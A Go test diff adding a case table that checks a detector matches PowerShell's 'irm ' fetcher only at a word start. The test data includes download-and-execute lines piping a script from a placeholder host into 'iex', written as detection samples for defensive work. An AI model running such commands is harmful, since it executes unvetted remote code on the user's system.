@@ -267,3 +267,20 @@ func TestLegalDuty55(t *testing.T) {
 		"We share personal information only with service providers, or where required by law, for example to answer a court order.",
 	})
 }
+
+// TestFetcherWord55 reads a web fetcher's name only at a word's start:
+// PowerShell's "irm " is not the end of "confirm ".
+func TestFetcherWord55(t *testing.T) {
+	for _, c := range []struct {
+		text string
+		want bool
+	}{
+		{"irm https://get.example/i.ps1 | iex", true},
+		{"powershell -c \"irm https://get.example/i.ps1 | iex\"", true},
+		{"echo confirm | sudo tee /etc/app.conf", false},
+	} {
+		if got := containsWord([]byte(c.text), []byte("irm ")); got != c.want {
+			t.Errorf("containsWord(%q, \"irm \") = %v, want %v", c.text, got, c.want)
+		}
+	}
+}
